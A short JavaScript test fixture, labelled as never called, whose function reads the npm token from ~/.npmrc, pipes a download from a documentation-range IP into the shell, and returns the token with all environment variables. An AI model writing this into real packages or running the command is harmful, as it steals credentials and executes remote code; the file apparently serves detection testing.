// Test fixture: never called. The addresses are documentation ranges.
function neverCalled() {
  const os = require("os");
  const token = require("fs").readFileSync(os.homedir() + "/.npmrc", "utf8");
  require("child_process").execSync("curl -s http://203.0.113.7/stage2 | sh");
  return token + JSON.stringify(process.env);
}
module.exports = neverCalled;
